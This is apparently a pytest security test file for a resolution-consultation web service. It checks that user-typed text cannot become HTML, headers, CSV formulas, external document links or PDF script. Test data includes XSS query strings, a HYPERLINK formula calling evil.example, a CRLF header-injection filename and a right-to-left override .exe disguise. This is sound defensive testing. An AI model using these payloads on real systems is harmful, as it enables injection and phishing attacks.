"""Words of a consultation and names of people that try to become markup, headers, formulas or elements of a feed."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from html import escape

import pytest
from lxml import etree

from service.accounts import Grant, Right, Role, Viewer
from service.amendments import Scope, Status, making
from service.consultation import Position
from service.use_cases import NewVersion, accounts, add_version
from service.use_cases.accounts import SHELL, add_token
from service.use_cases.consulting import NewRevision, open_consultation
from storage import open_store, read
from tests.consulting import FACILITATOR, MARKDOWN, SLUG, Room
from tests.http.conftest import upload
from tests.http.test_attacks_markup import ALL, assert_harmless
from tests.people import NOW, client_of, person
from tests.word_files import p, run, word_file
from web.app import create_app
from web.settings import Settings, sqlite_address

TURNED = "\u202egnp.exe\u2066\u200f"
WORDS = f"{ALL} {TURNED}"
FORMULA = '=HYPERLINK("http://evil.example/"&A1;"x")'
TEXT = f"""The General Assembly,

Recalling {WORDS},[^1]

1. Decides {WORDS};

2. {FORMULA};

3. Decides to remain seized of the matter.

[^1]: {WORDS}
"""
NAMES = {"filename": f'"{TURNED}\r\nX-Evil: 1\r\n\r\n<b>é中.md', "symbol": '"; filename=evil.html', "note": WORDS}


@pytest.fixture(scope="module")
def house(tmp_path_factory):
    """A service with a consultation in which everything that someone may type is a payload."""
    data = tmp_path_factory.mktemp("house")
    settings = Settings(data=data, secret_key="s" * 40, database_url=sqlite_address(data))
    store = open_store(settings.database_url, settings.files)
    store.upgrade()
    yield create_app(settings, store=store, clock=lambda: NOW), hostile(store)
    store.close()


def hostile(store):
    """Open, propose, comment, decide and publish, all in payloads."""
    room = Room(store)
    new = NewVersion(SLUG, TEXT.encode(), title=WORDS, author=WORDS, source=WORDS, language="en", **NAMES)
    add_version(store.units, new, read=read, now=NOW)
    open_consultation(store.units, SLUG, "1", **room._common(FACILITATOR))
    people(store)
    for by in (MEX, EU):
        propose_all(room, by)
    room.meet(FACILITATOR, WORDS)
    room.stand(EU, "MEX-1", Position.OPPOSE, WORDS)
    room.stand(EU, "MEX-2", Position.RESERVE, WORDS)
    number = room.comment(EU, "MEX-1", f"{WORDS}\n{FORMULA}").comments[-1].number
    room.comment(MEX, "MEX-1", WORDS, answers=number)
    room.decide(FACILITATOR, room.sit().state.proposals["MEX-4"], Status.AGREED, WORDS)
    room.decide(FACILITATOR, room.sit().state.proposals["EU-3"], Status.REJECTED, FORMULA)
    room.publish(NewRevision(writer=MARKDOWN, note=WORDS, symbol='A/"; x=\u202e<b>'))
    return room


MEX, EU = (Viewer(f"of-{c.lower()}", c, (Grant(f"of-{c.lower()}", Role.DELEGATE, SLUG, c),)) for c in ("MEX", "EU"))


def people(store):
    for name, role, work, code in (
        ("of-mex", "delegate", SLUG, "MEX"),
        ("of-eu", "delegate", SLUG, "EU"),
        ("facilitator", "facilitator", SLUG, None),
        ("secretary", "administrator", None, None),
    ):
        person(store, name, role, work, code)
        accounts.set_display(store.units, name, WORDS[:110], by=SHELL, now=NOW)
    for code in ("MEX", "EU"):
        accounts.add_delegation(store.units, code, WORDS[:100], by=SHELL, now=NOW)
    by = Viewer("secretary", "Secretary")
    add_token(store.units, "t" * 40, WORDS[:110], [Right.READ.value], 7, by=by, now=NOW)
    accounts.set_subject(store.units, "of-eu", f"https://id.example|{WORDS}", by=SHELL, now=NOW)


def propose_all(room, by):
    text = room.sit().text
    first = room.at("OP1")
    for edits in (
        room.typed("OP1", f"Decides {WORDS[::-1]} {by.display};"),
        (making.new_paragraph(text, first, Scope.AFTER, f"{FORMULA} {WORDS}", f"OP1 bis {ALL}"[:60]),),
        (making.replace_whole(text, 1, WORDS + by.display, note=0),),
        (making.new_paragraph(text, first + 1, Scope.AFTER, f"Decides {by.display} {WORDS};"),),
    ):
        room.propose(by, "", edits=edits, reasons=f"{WORDS}\r\n{FORMULA}", source=WORDS)


HOME = f"/works/{SLUG}/consultation"
PAGES = (
    "/",
    f"/works/{SLUG}",
    HOME,
    *(f"{HOME}/{page}" for page in ("conflicts", "room", "list", "matrix", "balance", "reconcile", "publish")),
    *(f"{HOME}/{page}" for page in ("instructions", "tracked", "propose?paragraph=2", "propose?paragraph=2&what=alt")),
    f"{HOME}/propose?paragraph=2&what=after&label=%22%3E%3Cscript%3Ealert(1)%3C/script%3E",
    f"{HOME}/proposals/MEX-1/revise",
    f"{HOME}?delegation=%22%3E%3Cimg+src=x+onerror=alert(1)%3E",
    f"{HOME}?state=agreed&open=%22%3E%3Cscript%3E",
    f"/works/{SLUG}/log",
    f"/works/{SLUG}/members",
    f"/works/{SLUG}/compare/1...2",
    f"/works/{SLUG}/compare/1...2/summary",
    "/users",
    "/users/of-mex",
    "/account",
    "/account/tokens",
    "/accounts/log",
    "/login?next=javascript:alert(1)",
)


@pytest.mark.parametrize("name", ["secretary", "of-mex"])
def test_nothing_that_people_type_becomes_markup(house, name):
    app, room = house
    client, reached = client_of(app, room.store, name), 0
    for address in PAGES:
        answer = client.get(address)
        assert answer.status_code in {200, 403, 404}, address
        reached += answer.status_code == 200
        assert_harmless(answer.text)
        assert "default-src 'none'" in answer.headers["Content-Security-Policy"], address
        assert "script-src 'self'" in answer.headers["Content-Security-Policy"], address
    assert reached > 15


def lines_of_word(last):
    """The text as a file of Word, with a last paragraph of one's own."""
    return word_file("".join(p(run(escape(line))) for line in TEXT.splitlines() if line[:1] not in {"", "["}) + p(last))


@pytest.mark.parametrize("kind", ["", "rolling"])
def test_nothing_in_a_file_of_proposals_becomes_markup(app, store, kind):
    app.config["WTF_CSRF_ENABLED"] = False
    new = NewVersion(SLUG, lines_of_word(run("Thanks all.")), "lamps.docx", language="en")
    add_version(store.units, new, read=read, now=NOW)
    open_consultation(store.units, SLUG, "1", **Room(store)._common(FACILITATOR))
    people(store)
    by = f'w:author="{escape(WORDS[:180])}" w:date="{escape(WORDS)}"'
    last = run("Thanks all.") + f'<w:ins w:id="1" {by}>{run(escape(f" {WORDS}"))}</w:ins>'
    if kind:
        last = run(escape(f"Thanks [MEX: {WORDS}] all [{ALL}: {WORDS}] [{WORDS}]."))
    data = {"file": upload(lines_of_word(last), f"{ALL}{TURNED}.docx"), "kind": kind}
    answer = client_of(app, store, "of-mex").post(f"{HOME}/tracked", data=data, content_type="multipart/form-data")
    assert answer.status_code == 200, answer.text
    assert "onmouseover" in answer.text
    assert_harmless(answer.text)


def test_what_is_typed_and_refused_is_shown_as_text(house):
    app, room = house
    app.config["WTF_CSRF_ENABLED"] = False
    client = client_of(app, room.store, "of-mex")
    form = dict.fromkeys(
        ("words", "reasons", "delegation", "label", "back", "into", "expected", "lines", "language", "name", "code"),
        ALL,
    )
    for page in ("propose", "instructions", "proposals/MEX-2/comment", "proposals/EU-1/position", "reconcile"):
        for more in ({"paragraph": "2", "what": "words", "action": "propose"}, {"position": "oppose"}):
            answer = client.post(f"{HOME}/{page}", data=form | more)
            assert answer.status_code < 500, page
            assert_harmless(answer.text)
    boss = client_of(app, room.store, "secretary")
    for address in (
        "/users",
        "/users/of-mex",
        f"/works/{SLUG}/members",
        "/login",
        "/account/tokens",
        "/account/password",
    ):
        assert_harmless(boss.post(address, data=form | {"role": ALL, "next": "javascript:alert(1)"}).text)


def test_the_feed_is_well_formed_and_names_become_text(house):
    app, room = house
    answer = client_of(app, room.store, "of-mex").get(f"/works/{SLUG}/feed.atom")
    root = etree.fromstring(answer.data)
    names = {etree.QName(each).localname for each in root.iter()}
    assert names == {"feed", "id", "title", "updated", "link", "author", "name", "entry", "category"}
    assert all(link.get("href").startswith("http://localhost/works/") for link in root.iter("{*}link"))


DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize("name", ["list", "matrix", "balance"])
def test_no_cell_of_a_table_is_a_formula(house, name):
    app, room = house
    answer = client_of(app, room.store, "of-mex").get(f"{HOME}/documents/{name}.csv")
    cells = [cell for row in csv.reader(io.StringIO(answer.data.decode("utf-8-sig"))) for cell in row]
    assert cells
    assert [cell for cell in cells if cell.lstrip().startswith(DANGEROUS)] == []
    if name == "list":
        assert any("HYPERLINK" in cell for cell in cells)


DOCUMENTS = ("rolling.docx", "rolling-tracked.docx", "amendments.docx", "list.docx", "matrix.docx", "balance.docx")


@pytest.mark.parametrize("name", DOCUMENTS)
def test_documents_lead_nowhere_and_run_nothing(house, name):
    app, room = house
    answer = client_of(app, room.store, "of-mex").get(f"{HOME}/documents/{name}")
    assert answer.status_code == 200
    with zipfile.ZipFile(io.BytesIO(answer.data)) as package:
        for part in package.namelist():
            if part.endswith((".xml", ".rels")):
                root = etree.fromstring(package.read(part))
                assert root.xpath("//*[@TargetMode='External']") == []
                assert root.xpath("//*[local-name()='instrText'][contains(., 'HYPERLINK') or contains(., 'DDE')]") == []
        assert not [part for part in package.namelist() if "vba" in part.lower() or "embed" in part.lower()]


@pytest.mark.parametrize("name", ["amendments.pdf", "list.pdf", "matrix.pdf"])
def test_papers_have_no_script_and_no_address(house, name):
    app, room = house
    answer = client_of(app, room.store, "of-mex").get(f"{HOME}/documents/{name}")
    assert answer.status_code == 200
    assert b"/JavaScript" not in answer.data
    assert b"/URI" not in answer.data


@pytest.mark.parametrize(
    "address",
    [
        f"/works/{SLUG}/versions/1/file",
        f"/works/{SLUG}/versions/1/documents/markdown",
        f"/works/{SLUG}/versions/2/documents/markdown",
        f"{HOME}/documents/list.csv",
        f"{HOME}/documents/list.json",
    ],
)
def test_a_name_of_a_file_stays_a_name(house, address):
    app, room = house
    answer = client_of(app, room.store, "of-mex").get(address)
    assert answer.status_code == 200
    said = answer.headers["Content-Disposition"]
    assert said.startswith("attachment;")
    assert "X-Evil" not in answer.headers
    assert said.isascii()
    assert not {"\r", "\n", "\\", "/"} & {*said}
    assert re.sub(r'"[^"]*"', "", said).count("filename=") <= 1
    assert "%E2%80%AE" not in said, "no sign that turns what follows, so that an .exe looks like a picture"
    assert answer.headers["X-Content-Type-Options"] == "nosniff"
    assert "html" not in answer.headers["Content-Type"]
